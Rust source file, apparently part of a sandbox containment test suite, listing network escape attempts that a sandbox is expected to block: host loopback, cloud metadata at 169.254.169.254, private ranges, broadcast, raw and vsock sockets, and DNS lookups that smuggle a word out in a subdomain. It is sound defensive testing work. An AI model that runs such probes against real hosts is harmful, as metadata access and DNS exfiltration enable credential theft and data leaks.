//! Reaching something over a network. Addresses are those set aside for documentation, where nothing answers, and the
//! listeners of the bait.

use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::time::Duration;

use super::bait::Told;
use super::{Attempt, Expect, Gap, Play, Row, Topic, Tried, raw};

pub(super) const ROWS: &[Row] = &[
    row("network-v4", "connects and sends over IPv4", V4),
    row("network-v6", "connects and sends over IPv6", V6),
    row("network-names", "asks for names, and smuggles words out in them", NAMES),
    row("network-raw", "makes sockets below and beside the usual ones", RAW),
];

const fn row(name: &'static str, attack: &'static str, attempts: &'static [Attempt]) -> Row {
    #[expect(clippy::cast_possible_truncation, reason = "a table of a few attempts, counted at compile time")]
    let count = attempts.len() as u32;
    Row { name, attack, topic: Topic::Network, expect: Expect::ok(count), play: Play::Attempts(attempts) }
}

const fn held(id: &'static str, what: &'static str, try_it: fn(&Told) -> Tried) -> Attempt {
    Attempt { id, what, gap: Gap::Nowhere, try_it }
}

const V4: &[Attempt] = &[
    held("loopback", "connect to a service of the host on 127.0.0.1", |t| {
        connect(&format!("127.0.0.1:{}", t.tcp4))
    }),
    held("any_address", "connect to it by 0.0.0.0", |t| connect(&format!("0.0.0.0:{}", t.tcp4))),
    held("loopback_datagram", "send to a service of the host on 127.0.0.1", datagram_home),
    held("public", "connect to a public address", |_| connect("192.0.2.1:443")),
    held("public_datagram", "send to a public address", |_| send("0.0.0.0:0", "198.51.100.1:53")),
    held("metadata", "connect to the address of cloud metadata", |_| connect("169.254.169.254:80")),
    held("private", "connect to private addresses", |_| {
        first(&["10.0.0.1:80", "172.17.0.1:80", "192.168.0.1:80", "100.64.0.1:80"], connect)
    }),
    held("multicast", "send to everybody near", |_| send("0.0.0.0:0", "224.0.0.251:5353")),
    held("broadcast", "send to everybody on the net", broadcast),
    held("fast_open", "send in the first packet of a connection", fast_open),
];

const V6: &[Attempt] = &[
    held("loopback", "connect to a service of the host on ::1", |t| {
        t.tcp6.map_or_else(
            || Err("this machine has no IPv6".to_owned()),
            |port| connect(&format!("[::1]:{port}")),
        )
    }),
    held("mapped", "connect to 127.0.0.1 by its IPv6 spelling", |t| {
        connect(&format!("[::ffff:127.0.0.1]:{}", t.tcp4))
    }),
    held("public", "connect to a public address", |_| connect("[2001:db8::1]:443")),
    held("public_datagram", "send to a public address", |_| send("[::]:0", "[2001:db8::1]:53")),
    held("local", "send to everybody near", |_| send("[::]:0", "[ff02::1]:5353")),
    held("metadata", "connect to the address of cloud metadata", |_| connect("[fd00:ec2::254]:80")),
];

const NAMES: &[Attempt] = &[
    held("resolve", "resolve a name", |_| resolved("example.com:443")),
    held("smuggle", "resolve a name that carries words out", |t| {
        resolved(&format!("{}.invalid.example:53", t.word))
    }),
    held("resolver", "ask the resolver that is usual on this machine", |_| answered("127.0.0.53:53")),
];

const RAW: &[Attempt] = &[
    held("packets", "read and write packets", |_| socket(17, 3)),
    held("raw_v4", "make a raw IPv4 socket", |_| socket(2, 3)),
    held("raw_v6", "make a raw IPv6 socket", |_| socket(10, 3)),
    held("hypervisor", "make a socket to the hypervisor", |_| socket(40, 1)),
    held("bluetooth", "make a Bluetooth socket", |_| socket(31, 3)),
    held("crypto", "make a socket of the kernel's ciphers", |_| socket(38, 5)),
    held("bus", "make a socket of a field bus", |_| socket(29, 3)),
    held("interfaces", "find an interface that leads out", interfaces),
    held("listen", "be reached from outside", listen),
];

fn connect(address: &str) -> Tried {
    let address: SocketAddr = address.parse().map_err(|_| format!("{address} is no address"))?;
    match TcpStream::connect_timeout(&address, Duration::from_millis(700)) {
        Ok(_) => Ok(format!("connected to {address}")),
        // Nobody answered, and nobody refused: the packet went out.
        Err(error) if error.kind() == std::io::ErrorKind::TimedOut => Ok(format!("a packet to {address}")),
        Err(error) => Err(error.to_string()),
    }
}

fn send(from: &str, to: &str) -> Tried {
    UdpSocket::bind(from)
        .and_then(|socket| socket.send_to(b"out", to))
        .map_or_else(|e| Err(e.to_string()), |_| Ok(format!("a packet to {to}")))
}

/// The box may have a loopback of its own, where sending goes nowhere: the listener outside says more.
fn datagram_home(told: &Told) -> Tried {
    answered(&format!("127.0.0.1:{}", told.udp4))
}

fn answered(address: &str) -> Tried {
    let sent = UdpSocket::bind("127.0.0.1:0").and_then(|socket| {
        socket.connect(address)?;
        socket.send(b"out")?;
        // Where nobody listens, the refusal comes back with the next call.
        std::thread::sleep(Duration::from_millis(50));
        socket.send(b"out")
    });
    sent.map_or_else(|e| Err(e.to_string()), |_| Ok("a packet to the host's loopback".to_owned()))
}

fn first(addresses: &[&str], one: fn(&str) -> Tried) -> Tried {
    let mut why = String::new();
    for address in addresses {
        match one(address) {
            Ok(got) => return Ok(got),
            Err(error) => why = error,
        }
    }
    Err(why)
}

fn broadcast(_: &Told) -> Tried {
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
    socket.set_broadcast(true).map_err(|e| e.to_string())?;
    socket
        .send_to(b"out", "255.255.255.255:9")
        .map_or_else(|e| Err(e.to_string()), |_| Ok("a packet to all".to_owned()))
}

/// MSG_FASTOPEN connects without `connect`.
fn fast_open(told: &Told) -> Tried {
    let socket = raw::call(libc::SYS_socket, [2, 1, 0, 0, 0, 0]).map_err(|e| e.to_string())?;
    let port = told.tcp4.to_be_bytes();
    let address: [u8; 16] = [2, 0, port[0], port[1], 127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0];
    let words = *b"out";
    raw::call(libc::SYS_sendto, [socket, raw::address(&words), 3, 0x2000_0000, raw::address(&address), 16])
        .map_or_else(|e| Err(e.to_string()), |_| Ok("sent with the first packet".to_owned()))
}

fn resolved(name: &str) -> Tried {
    name.to_socket_addrs()
        .map_or_else(|e| Err(e.to_string()), |found| Ok(format!("{} addresses", found.count())))
}

fn socket(family: libc::c_long, kind: libc::c_long) -> Tried {
    raw::call(libc::SYS_socket, [family, kind, 0, 0, 0, 0])
        .map_or_else(|e| Err(e.to_string()), |_| Ok("a socket".to_owned()))
}

fn interfaces(_: &Told) -> Tried {
    let table = std::fs::read_to_string("/proc/net/dev").map_err(|e| e.to_string())?;
    let names: Vec<&str> = table
        .lines()
        .filter_map(|l| l.split_once(':'))
        .map(|(name, _)| name.trim())
        .filter(|n| *n != "lo")
        .collect();
    // To see an interface is not to use it: without namespaces the table is the host's.
    let usable = UdpSocket::bind("0.0.0.0:0").and_then(|s| s.connect("192.0.2.1:9"));
    if names.is_empty() || usable.is_err() {
        Err("none that can be used".to_owned())
    } else {
        Ok(names.join(", "))
    }
}

fn listen(_: &Told) -> Tried {
    let made = std::net::TcpListener::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
    // On a loopback of its own nobody outside can reach it.
    let alone = std::fs::read_to_string("/proc/net/dev")
        .is_ok_and(|t| t.lines().filter(|l| l.contains(':')).count() == 1);
    if alone {
        Err("only on a loopback of its own".to_owned())
    } else {
        Ok(format!("listens at {:?}", made.local_addr()))
    }
}
